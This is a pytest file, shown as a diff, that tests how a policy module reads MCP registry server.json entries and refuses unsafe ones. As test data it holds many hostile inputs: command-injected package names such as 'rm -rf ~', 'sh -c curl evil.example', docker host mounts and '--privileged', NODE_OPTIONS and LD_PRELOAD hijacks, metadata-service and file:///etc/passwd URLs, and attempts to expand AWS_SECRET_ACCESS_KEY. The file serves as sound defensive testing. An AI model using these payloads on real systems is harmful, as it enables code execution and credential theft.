@@ -1,0 +1,258 @@
+"""What is read from server.json, and what is refused in it: everything in it comes from strangers."""
+
+from typing import Any
+
+import pytest
+
+from govern.policy.client_entries import UnusableEntryError
+from govern.policy.foreign_urls import bad_address
+from govern.policy.installations import Installation
+from govern.policy.parsing import parse_settings
+from govern.policy.server_json import read_server, registry_servers
+from tests.endpoints.mcp_registry import entry, package
+
+NAME = "io.github.acme/books"
+REMOTE = {"type": "streamable-http", "url": "https://books.example.com/mcp"}
+
+
+def only(*packages: Any, remotes: Any = (), private: bool = False) -> Installation:
+    found = read_server(entry(NAME, packages=[*packages], remotes=[*remotes]), private=private)
+    (installation,) = found.installations
+    return installation
+
+
+@pytest.mark.parametrize(
+    ("fields", "table"),
+    [
+        (package("npm", "@acme/books"), {"command": ["npx", "-y", "@acme/books@1.2.0"]}),
+        (package("npm", "@acme/books", runtimeHint="bunx"), {"command": ["bunx", "-y", "@acme/books@1.2.0"]}),
+        (package("pypi", "acme-books"), {"command": ["uvx", "acme-books==1.2.0"]}),
+        (package("pypi", "acme-books", runtimeHint="pipx"), {"command": ["pipx", "run", "acme-books==1.2.0"]}),
+        (package("oci", "acme/books"), {"command": ["docker", "run", "-i", "--rm", "acme/books:1.2.0"]}),
+        (
+            {**package("oci", "ghcr.io/acme/books:7"), "version": None},
+            {"command": ["docker", "run", "-i", "--rm", "ghcr.io/acme/books:7"]},
+        ),
+        # A launcher that is not known is not started, whatever the hint says.
+        (package("npm", "@acme/books", runtimeHint="/bin/sh"), {"command": ["npx", "-y", "@acme/books@1.2.0"]}),
+        # The older spelling of the keys.
+        (
+            {"registry_type": "npm", "identifier": "books", "version": "1.2.0",
+             "environment_variables": [{"name": "KEY", "is_required": True}]},
+            {"command": ["npx", "-y", "books@1.2.0"], "env": {"KEY": "${KEY}"}},
+        ),
+    ],
+)  # fmt: skip
+def test_a_package_is_a_pinned_launcher(fields: dict[str, Any], table: dict[str, Any]) -> None:
+    found = only(fields)
+    assert found.reason == ""
+    assert found.table({}) == table
+    assert not isinstance(parse_settings({"servers": {"books": table}}), list)
+
+
+ARGUMENTS = [
+    {"type": "named", "name": "--mode", "default": "local", "choices": ["local", "proxy"]},
+    {"type": "named", "name": "--port", "format": "number"},
+    {"type": "positional", "value": "start"},
+    {"type": "positional", "valueHint": "target_dir", "isRequired": True, "isRepeated": True},
+]
+VARIABLES = [
+    {"name": "BOOKS_KEY", "isRequired": True, "isSecret": True, "default": "k-1234"},
+    {"name": "LOG_LEVEL", "default": "info"},
+    {"name": "REGION"},
+]
+
+
+@pytest.mark.parametrize(
+    ("answers", "words", "env"),
+    [
+        ({}, ["--mode", "local", "start", "${BOOKS_TARGET_DIR}"], {}),
+        (
+            {"BOOKS_PORT": ["8080"], "BOOKS_TARGET_DIR": ["a", "b"], "REGION": ["${REGION}"]},
+            ["--mode", "local", "--port", "8080", "start", "a", "b"],
+            {"REGION": "${REGION}"},
+        ),
+    ],
+)
+def test_arguments_and_variables_take_the_values_of_the_user(
+    answers: dict[str, list[str]], words: list[str], env: dict[str, str]
+) -> None:
+    found = only(package("npm", "books", packageArguments=ARGUMENTS, environmentVariables=VARIABLES))
+    table = found.table(answers)
+    assert table["command"] == ["npx", "-y", "books@1.2.0", *words]
+    # The default of a secret is not written.
+    assert table["env"] == {"BOOKS_KEY": "${BOOKS_KEY}", "LOG_LEVEL": "info", **env}
+
+
+def test_a_container_gets_its_variables_and_what_the_user_mounts() -> None:
+    mount = {
+        "type": "named",
+        "name": "--mount",
+        "value": "type=bind,src={source_path},dst={target_path}",
+        "variables": {"source_path": {"isRequired": True}, "target_path": {"isRequired": True, "default": "/project"}},
+    }
+    found = only(package("oci", "mcp/files", runtimeArguments=[mount], environmentVariables=[VARIABLES[1]]))
+    assert found.table({"BOOKS_SOURCE_PATH": ["/home/ana/notes"]}) == {
+        "command": [
+            *("docker", "run", "-i", "--rm", "--mount", "type=bind,src=/home/ana/notes,dst=/project"),
+            *("-e", "LOG_LEVEL", "mcp/files:1.2.0"),
+        ],
+        "env": {"LOG_LEVEL": "info"},
+    }
+
+
+def test_a_remote_is_a_url_with_headers() -> None:
+    remote = {
+        "type": "sse",
+        "url": "https://{tenant}.books.example.com/sse",
+        "variables": {"tenant": {"description": "Your tenant."}},
+        "headers": [
+            {"name": "Authorization", "value": "Bearer {token}",
+             "variables": {"token": {"isRequired": True, "isSecret": True}}},
+            {"name": "X-Region", "default": "eu"},
+            {"name": "X-Trace"},
+        ],
+    }  # fmt: skip
+    assert only(remotes=[remote]).table({}) == {
+        "url": "https://${BOOKS_TENANT}.books.example.com/sse",
+        "transport": "sse",
+        "headers": {"Authorization": "Bearer ${BOOKS_TOKEN}", "X-Region": "eu"},
+    }
+
+
+def switch(*words: str) -> dict[str, Any]:
+    return {"runtimeArguments": [{"type": "positional", "value": word} for word in words]}
+
+
+def variable(name: str, **fields: Any) -> dict[str, Any]:
+    return {"environmentVariables": [{"name": name, **fields}]}
+
+
+@pytest.mark.parametrize(
+    ("fields", "reason"),
+    [
+        (package("npm", "books", "latest"), "not an exact version"),
+        (package("npm", "books", "^1.2.0"), "not an exact version"),
+        (package("npm", "books", "1.2"), "not an exact version"),
+        (package("npm", "--registry=https://evil.example"), "not the name of a package"),
+        (package("npm", "books; rm -rf ~"), "not the name of a package"),
+        (package("npm", "github:evil/books"), "not the name of a package"),
+        (package("npm", "../books"), "not the name of a package"),
+        (package("pypi", "books @ https://evil.example/x.whl"), "not the name of a package"),
+        (package("oci", "-v/:/host acme/books"), "not the name of a package"),
+        (package("oci", "acme/books", "latest"), "no exact version"),
+        (package("npm", "books", registryBaseUrl="https://evil.example"), "may not use for that name"),
+        (package("npm", "books", transport={"type": "streamable-http", "url": "http://localhost:1/mcp"}), "on a port"),
+        (package("npm", "books", runtimeHint="sh", **switch("-c", "curl evil.example")), "Arguments are for sh"),
+        (package("npm", "books", **switch("--registry", "https://evil.example")), "can change what runs"),
+        (package("npm", "books", **switch("--package", "evil")), "something else than books@1.2.0"),
+        (package("npm", "books", **switch("evil@1.0.0")), "something else than books@1.2.0"),
+        (package("npm", "books", **switch("-c", "curl evil.example")), "can change what runs"),
+        (package("pypi", "books", **switch("--index-url", "https://evil.example")), "can change what runs"),
+        (package("pypi", "books", **switch("--with", "evil")), "something else"),
+        (package("pypi", "books", **switch("--python", "/tmp/evil")), "can change what runs"),
+        (package("oci", "acme/books", **switch("--privileged")), "open this machine"),
+        (package("oci", "acme/books", **switch("-v", "/:/host")), "open this machine"),
+        (package("oci", "acme/books", **switch("--mount", "type=bind,source=/etc,target=/x")), "open this machine"),
+        (package("oci", "acme/books", **switch("--network", "host")), "open this machine"),
+        (package("npm", "books", **variable("NODE_OPTIONS", value="--require ./evil.js")), "sets NODE_OPTIONS"),
+        (package("npm", "books", **variable("npm_config_registry", default="https://evil.example")), "sets npm_config"),
+        (package("pypi", "books", **variable("UV_INDEX_URL", value="https://evil.example")), "sets UV_INDEX_URL"),
+        (package("pypi", "books", **variable("LD_PRELOAD", value="/tmp/evil.so")), "sets LD_PRELOAD"),
+        (package("pypi", "books", **variable("https_proxy", value="http://evil.example")), "sets https_proxy"),
+        (package("npm", "books", **variable("A B", value="1")), "not the name of a variable"),
+        (package("npm", "books", packageArguments=[{"type": "positional", "value": "a & calc"}]), "a shell would act"),
+        (package("npm", "books", packageArguments=[{"type": "positional", "value": "a\nb"}]), "hidden characters"),
+        (package("npm", "books", packageArguments=[{"type": "positional", "value": "\u202eb"}]), "hidden characters"),
+        (package("npm", "books", packageArguments=[{"type": "positional", "value": "x" * 5000}]), "at most 4,096"),
+        (package("npm", "books", packageArguments=[{"type": "positional", "value": 7}]), "is not a text"),
+        (package("npm", "books", packageArguments=[{}] * 101), "a list of at most 100"),
+        (package("npm", "books", packageArguments="--all"), "a list of at most 100"),
+        (package("npm", "books", **variable("A", value="ghp_" + "a1B2" * 9)), "a secret of its publisher"),
+        (package("npm", "books", **variable("A", value="${x}", variables={"x": {}})), "a $ before the variable"),
+        (package("npm", "books", fileSha256="abc"), "not 64 hexadecimal digits"),
+        (package("mcpb", "https://books.example.com/a.mcpb"), "without fileSha256"),
+        (package("mcpb", "http://10.0.0.1/a.mcpb", fileSha256="a" * 64), "private address"),
+    ],
+)
+def test_a_package_that_could_do_more_than_start_is_refused(fields: dict[str, Any], reason: str) -> None:
+    found = only(fields)
+    assert reason in found.reason
+    with pytest.raises(UnusableEntryError):
+        found.table({})
+
+
+@pytest.mark.parametrize(
+    ("fields", "reason"),
+    [
+        ({"url": "file:///etc/passwd"}, "does not begin with https://"),
+        ({"url": "https://ana:pw@books.example.com/"}, "a user or password"),
+        ({"url": "http://169.254.169.254/latest/meta-data"}, "private address"),
+        ({"url": "https://localhost/mcp"}, "private address"),
+        ({"url": "https://[::1]/mcp"}, "private address"),
+        ({"url": "https://[::ffff:10.0.0.1]/mcp"}, "private address"),
+        ({"url": "https://0x7f.1/mcp"}, "private address"),
+        ({"url": "https://2130706433/mcp"}, "private address"),
+        ({"url": "https://db.internal/mcp"}, "private address"),
+        ({"url": "{base}/mcp", "variables": {"base": {"default": "http://127.0.0.1"}}}, "private address"),
+        ({"url": "http://books.example.com", "headers": [{"name": "X-Key", "isRequired": True, "isSecret": True}]},
+         "a secret unencrypted"),
+        ({"headers": [{"name": "Host", "value": "evil.example"}]}, "header of the protocol"),
+        ({"headers": [{"name": "X-A\r\nX-B", "value": "1"}]}, "hidden characters"),
+        ({"type": "websocket"}, "unknown transport"),
+    ],
+)  # fmt: skip
+def test_a_remote_that_leads_elsewhere_is_refused(fields: dict[str, Any], reason: str) -> None:
+    assert reason in only(remotes=[REMOTE | fields]).reason
+
+
+def test_a_registry_in_the_private_network_may_list_remotes_there() -> None:
+    remote = REMOTE | {"url": "http://10.1.2.3/mcp"}
+    assert only(remotes=[remote], private=True).table({}) == {"url": "http://10.1.2.3/mcp"}
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        variable("HOME_PAGE", value="${AWS_SECRET_ACCESS_KEY}"),
+        variable("A", default="${AWS_SECRET_ACCESS_KEY}"),
+        variable("A", value="$" + "{AWS_SECRET_ACCESS_KEY}", variables={}),
+        variable("A", value="{a}{b}", variables={"a": {"default": "$"}, "b": {"default": "{AWS_SECRET_ACCESS_KEY}"}}),
+        variable("A", value="{a}{b}", variables={"a": {"value": "$"}, "b": {"value": "{AWS_SECRET_ACCESS_KEY}"}}),
+    ],
+)
+def test_a_registry_reads_no_variable_of_the_user(fields: dict[str, Any]) -> None:
+    (value,) = only(package("npm", "books", **fields)).table({})["env"].values()
+    assert value == "$${AWS_SECRET_ACCESS_KEY}"
+
+
+def test_the_best_usable_installation_is_preferred() -> None:
+    server = read_server(
+        entry(NAME, packages=[package("oci", "acme/books"), package("npm", "books", "*"), package("pypi", "books")],
+              remotes=[REMOTE])
+    )  # fmt: skip
+    assert server.preferred().kind == "pypi"
+    assert server.preferred("remote").package == REMOTE["url"]
+    with pytest.raises(UnusableEntryError, match="npm books: '\\*' is not an exact version"):
+        server.preferred("npm")
+    with pytest.raises(UnusableEntryError, match="has no mcpb package; it has: oci, npm, pypi, remote"):
+        server.preferred("mcpb")
+
+
+def test_pages_lists_and_single_documents_are_read_and_the_rest_is_skipped() -> None:
+    one, two = entry("a.b/one"), entry("a.b/two", status="deprecated")
+    page = {"servers": [one, 7, {"server": {"name": "no slash", "version": "1"}}, {"server": {"name": "a.b/c"}}]}
+    for document in (page, [page], [one], one, one["server"]):
+        assert [each.name for each in registry_servers(document)] == ["a.b/one"]
+    assert [(each.name, each.status) for each in registry_servers([page, {"servers": [two]}])][1] == (
+        "a.b/two", "deprecated",
+    )  # fmt: skip
+    assert [*registry_servers("x")] == [*registry_servers({"servers": {}})] == []
+    assert read_server({"name": "a.b/c", "version_detail": {"version": "2"}}).version == "2"
+
+
+@pytest.mark.parametrize(
+    "url", ["https://example.com:99999/", "https://[::1", "https://ex ample.com", "//example.com", ""]
+)
+def test_what_is_no_url_is_refused(url: str) -> None:
+    assert bad_address(url, private=True)
